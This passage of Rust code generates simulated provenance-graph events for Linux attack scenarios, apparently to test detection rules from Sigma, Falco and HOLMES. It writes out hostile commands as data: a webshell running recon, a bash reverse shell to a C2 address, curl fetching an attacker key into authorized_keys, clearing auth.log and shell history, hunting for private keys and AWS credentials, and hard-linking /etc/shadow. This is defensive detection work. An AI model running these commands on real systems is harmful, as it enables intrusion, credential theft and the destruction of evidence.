        let (exec, run) = self.exec(
            &mut run_task,
            &mut payload,
            "/home/user/.cache/update-helper",
        );
        self.key(&exec, "executable payload", "payload memory");
        self.key(&run, "payload memory", "payload task");
    }

    /// apache2 receives a request and spawns `sh -c`, which runs whoami (Sigma
    /// lnx_webshell_detection; HOLMES Shell_Exec).
    fn webshell(&mut self) {
        let client = ("203.0.113.9", 51_515);
        let mut apache = self.running(1450, 33);
        let mut listener = self.inode_socket(33);
        self.flow("listen", &mut apache.task, &mut listener);
        self.tick();
        let mut socket = self.inode_socket(33);
        let accept_socket = self.flow("accept_socket", &mut listener, &mut socket);
        self.key(&accept_socket, "listening socket", "web socket");
        let accept = self.flow("accept", &mut socket, &mut apache.task);
        self.key(&accept, "web socket", "web server");
        let (_, in_flow, receive) = self.receive(&mut apache, &mut socket, client, 512);
        self.key(&in_flow, "request packet", "web socket");
        self.key(&receive, "web socket", "web server");
        self.tick();
        let (mut sh, clone, exec, run) = self.spawn(
            &mut apache,
            1502,
            "/usr/bin/dash",
            "sh -c whoami;id;uname -a",
        );
        self.key(&clone, "web server", "");
        self.key(&exec, "shell binary", "");
        self.key(&run, "", "spawned shell");
        self.tick();
        let (_, clone, exec, run) = self.spawn(&mut sh, 1503, "/usr/bin/whoami", "whoami");
        self.key(&clone, "spawned shell", "");
        self.key(&exec, "recon binary", "");
        self.key(&run, "", "recon task");
    }

    /// A bash connected to an external listener reads commands from it and sends output back
    /// on the same socket (Falco Redirect STDOUT/STDIN to Network Connection; HOLMES CnC).
    fn reverse_shell(&mut self) {
        let c2 = ("192.0.2.77", 4444);
        let mut python = self.running(6021, 1000);
        let argv = "bash -i";
        let (mut bash, clone, _, run) = self.spawn(&mut python, 6030, "/usr/bin/bash", argv);
        self.key(&clone, "launcher", "");
        self.key(&run, "", "shell");
        let (mut socket, addressed, connect) = self.connect(&mut bash, c2.0, c2.1);
        self.key(&addressed, "c2 address", "c2 socket");
        self.key(&connect, "shell", "c2 socket");
        self.tick();
        let (_, in_flow, receive) = self.receive(&mut bash, &mut socket, c2, 64);
        self.key(&in_flow, "command packet", "");
        self.key(&receive, "", "shell");
        self.tick();
        let (_, send, out) = self.send(&mut bash, &mut socket, c2, 220);
        self.key(&send, "shell", "");
        self.key(&out, "", "output packet");
    }

    /// A user's exploit becomes root (`setuid` -> process memory with uid 0) and starts a
    /// root shell (HOLMES Switch_SU; Sigma cap_setuid).
    fn privilege_escalation(&mut self) {
        let mut shell = self.running(7301, 1000);
        let (mut exploit, _, exec, run) = self.spawn(
            &mut shell,
            7342,
            "/home/user/cve-2021-4034/exploit",
            "./exploit",
        );
        self.key(&exec, "exploit binary", "");
        self.key(&run, "", "exploit task");
        self.tick();
        // The new credentials: a new version of the process memory with uid 0.
        exploit.mem.attrs = exploit.mem.attrs.replace(
            "\"cf:uid\":1000,\"cf:gid\":1000",
            "\"cf:uid\":0,\"cf:gid\":0",
        );
        exploit.uid = 0;
        let setuid = self.flow("setuid", &mut exploit.task, &mut exploit.mem);
        self.key(&setuid, "exploit task", "root credentials");
        let become_root = self.flow("memory_read", &mut exploit.mem, &mut exploit.task);
        self.key(&become_root, "", "root task");
        self.tick();
        let (_, clone, exec, run) = self.spawn(&mut exploit, 7343, "/usr/bin/bash", "/bin/sh");
        self.key(&clone, "", "");
        self.key(&exec, "shell binary", "");
        self.key(&run, "", "root shell");
    }

    /// A tool copied to /dev/shm is made executable and run from there (Falco Execution
    /// from /dev/shm; Sigma bash_tmp_folder).
    fn tmp_exec(&mut self) {
        let mut shell = self.running(8011, 1000);
        let (mut cp, _, _, run) = self.spawn(
            &mut shell,
            8020,
            "/usr/bin/cp",
            "cp /media/usb/tool /dev/shm/.kworker",
        );
        self.key(&run, "", "copying task");
        let mut source = self.file("/media/usb/tool", 1000, 0x81ed);
        let read = self.flow("read", &mut source, &mut cp.task);
        self.key(&read, "source file", "copying task");
        let mut dropped = self.file("/dev/shm/.kworker", 1000, 0x81a4);
        let write = self.flow("write", &mut cp.task, &mut dropped);
        self.key(&write, "", "tmpfs file");
        self.tick();
        let (mut chmod, _, _, _) = self.spawn(
            &mut shell,
            8024,
            "/usr/bin/chmod",
            "chmod 755 /dev/shm/.kworker",
        );
        let (_, version, apply) = self.chmod(&mut chmod, &mut dropped, 0x81ed);
        self.key(&version, "tmpfs file", "executable tmpfs file");
        self.key(&apply, "", "executable tmpfs file");
        self.tick();
        let (mut runner, _) = self.fork(&mut shell, 8031);
        let (exec, run) = self.exec(&mut runner, &mut dropped, "/dev/shm/.kworker");
        self.key(&exec, "executable tmpfs file", "tmpfs program memory");
        self.key(&run, "tmpfs program memory", "tmpfs program task");
    }

    /// A root shell truncates /var/log/auth.log and removes /root/.bash_history (Falco Clear
    /// Log Activities; HOLMES Clear_Logs).
    fn log_tampering(&mut self) {
        let mut shell = self.running(9101, 0);
        let (mut truncate, _, _, run) = self.spawn(
            &mut shell,
            9140,
            "/usr/bin/truncate",
            "truncate -s 0 /var/log/auth.log",
        );
        self.key(&run, "", "truncating task");
        let mut log = self.file("/var/log/auth.log", 0, 0x81a0);
        let open = self.flow("open", &mut log, &mut truncate.task);
        self.key(&open, "auth log", "truncating task");
        self.tick();
        let iattr_id = self.m().next_node + 1;
        let mut iattr = self.node(
            "iattr",
            ENT_IATTR,
            "\"cf:valid\":\"0x8\",\"cf:mode\":\"0x81a0\",\"cf:uid\":0,\"cf:gid\":0,\"cf:size\":\"0\",\"cf:atime\":\"0\",\"cf:ctime\":\"0\",\"cf:mtime\":\"0\"".into(),
            format!("[iattr] {iattr_id}"),
        );
        let setattr = self.flow("setattr", &mut truncate.task, &mut iattr);
        self.key(&setattr, "truncating task", "size change");
        let apply = self.flow("setattr_inode", &mut iattr, &mut log);
        self.key(&apply, "size change", "truncated auth log");
        self.tick();
        let (mut rm, _, _, run) =
            self.spawn(&mut shell, 9152, "/usr/bin/rm", "rm -f /root/.bash_history");
        self.key(&run, "", "removing task");
        let mut history = self.file("/root/.bash_history", 0, 0x8180);
        let unlink = self.flow("unlink", &mut rm.task, &mut history);
        self.key(&unlink, "removing task", "shell history");
    }

    /// A python script loads a kernel module from /tmp with finit_module (Falco Linux Kernel
    /// Module Injection Detected).
    fn kernel_module(&mut self) {
        let mut shell = self.running(10_201, 0);
        let (mut loader, _, exec, run) = self.spawn(
            &mut shell,
            10_233,
            "/usr/bin/python3",
            "python3 /tmp/.r/load.py",
        );
        self.key(&exec, "loader binary", "");
        self.key(&run, "", "loader task");
        let mut module = self.file("/tmp/.r/rk.ko", 0, 0x81a4);
        self.tick();
        // The kernel reads the module file for the task, which then influences the kernel
        // (libprovenance's wasInfluencedBy: the machine agent is the influencee).
        let load_file = self.flow("load_file", &mut module, &mut loader.task);
        self.key(&load_file, "module file", "loader task");
        let mut kernel = self.machine_agent();
        let load = self.flow("load_module", &mut loader.task, &mut kernel);
        self.key(&load, "loader task", "kernel");
    }

    /// curl fetches an attacker's key and appends it to ~/.ssh/authorized_keys, and a crontab
    /// line re-fetches it (Sigma schedule_task_job_cron; HOLMES Make_File_Exec).
    fn persistence(&mut self) {
        let c2 = ("198.51.100.7", 443);
        let mut shell = self.running(11_101, 1000);
        let (mut curl, _, _, run) = self.spawn(
            &mut shell,
            11_130,
            "/usr/bin/curl",
            "curl -s https://198.51.100.7/k",
        );
        self.key(&run, "", "downloader");
        let (mut socket, _, connect) = self.connect(&mut curl, c2.0, c2.1);
        self.key(&connect, "downloader", "c2 socket");
        self.tick();
        let (_, in_flow, receive) = self.receive(&mut curl, &mut socket, c2, 740);
        self.key(&in_flow, "downloaded packet", "c2 socket");
        self.key(&receive, "c2 socket", "downloader");
        let mut keys = self.file("/home/user/.ssh/authorized_keys", 1000, 0x8180);
        let write = self.flow("write", &mut curl.task, &mut keys);
        self.key(&write, "downloader", "authorized_keys");
        self.tick();
        let mut crontab = self.file("/var/spool/cron/crontabs/user", 1000, 0x8180);
        let cron = self.flow("write", &mut curl.task, &mut crontab);
        self.key(&cron, "downloader", "crontab");
    }

    /// python receives a program over the network, writes it into a memfd (no file on disk)
    /// and executes it with fexecve (Falco Fileless execution via memfd_create; HOLMES
    /// Make_Mem_Exec).
    fn fileless(&mut self) {
        let c2 = ("203.0.113.200", 8443);
        let mut shell = self.running(12_001, 1000);
        let (mut python, _, _, run) = self.spawn(
            &mut shell,
            12_040,
            "/usr/bin/python3",
            "python3 -c import os,urllib.request as u;...",
        );
        self.key(&run, "", "loader task");
        let (mut socket, _, connect) = self.connect(&mut python, c2.0, c2.1);
        self.key(&connect, "loader task", "c2 socket");
        self.tick();
        let (_, in_flow, receive) = self.receive(&mut python, &mut socket, c2, 1448);
        self.key(&in_flow, "downloaded packet", "c2 socket");
        self.key(&receive, "c2 socket", "loader task");
        let mut memfd = self.file("/memfd:x (deleted)", 1000, 0x81ff);
        let write = self.flow("write", &mut python.task, &mut memfd);
        self.key(&write, "loader task", "memfd file");
        self.tick();
        let (exec, run) = self.exec(&mut python, &mut memfd, "[kworker/0:1]");
        self.key(&exec, "memfd file", "fileless memory");
        self.key(&run, "fileless memory", "fileless task");
    }

    /// find and grep search home folders for keys and passwords, and read a cloud credentials
    /// file (Falco Search Private Keys or Passwords; HOLMES Sensitive_Command).
    fn credential_hunt(&mut self) {
        let mut shell = self.running(13_001, 1000);
        let (mut find, clone, exec, run) = self.spawn(
            &mut shell,
            13_020,
            "/usr/bin/find",
            "find / -name id_rsa -o -name *.pem -o -name credentials",
        );
        self.key(&clone, "hunting shell", "");
        self.key(&exec, "find binary", "");
        self.key(&run, "", "find task");
        let mut home = self.inode("directory", ENT_INODE_DIRECTORY, "/home/user", 1000, 0x41ed);
        let search = self.flow("search", &mut home, &mut find.task);
        self.key(&search, "searched folder", "find task");
        self.tick();
        let (mut grep, clone, exec, run) = self.spawn(
            &mut shell,
            13_027,
            "/usr/bin/grep",
            "grep -ri password /home/user /etc",
        );
        self.key(&clone, "hunting shell", "");
        self.key(&exec, "grep binary", "");
        self.key(&run, "", "grep task");
        let search = self.flow("search", &mut home, &mut grep.task);
        self.key(&search, "searched folder", "grep task");
        self.tick();
        let (mut cat, _, _, run) = self.spawn(
            &mut shell,
            13_031,
            "/usr/bin/cat",
            "cat /home/user/.aws/credentials",
        );
        self.key(&run, "", "reading task");
        let mut credentials = self.file("/home/user/.aws/credentials", 1000, 0x8180);
        let read = self.flow("read", &mut credentials, &mut cat.task);
        self.key(&read, "credentials file", "reading task");
    }

    /// ln hard-links /etc/shadow under /tmp, so it can be read there later (Falco Create
    /// Symlink/Hardlink Over Sensitive Files).
    fn sensitive_link(&mut self) {
        let mut shell = self.running(14_001, 0);
        let (mut ln, _, exec, run) =
            self.spawn(&mut shell, 14_050, "/usr/bin/ln", "ln /etc/shadow /tmp/.s");
        self.key(&exec, "ln binary", "");
        self.key(&run, "", "linking task");
        let mut shadow = self.file("/etc/shadow", 0, 0x8000);
        self.tick();
        let link = self.flow("link", &mut ln.task, &mut shadow);
        self.key(&link, "linking task", "sensitive file");
        // The inode gains a second name.
        let mut alias = self.node(
            "path",
            ENT_PATH,
            "\"cf:pathname\":\"/tmp/.s\"".into(),
            "[path] /tmp/.s".into(),
        );
        let named = self.flow("named", &mut alias, &mut shadow);
        self.key(&named, "link path", "sensitive file");
    }
}
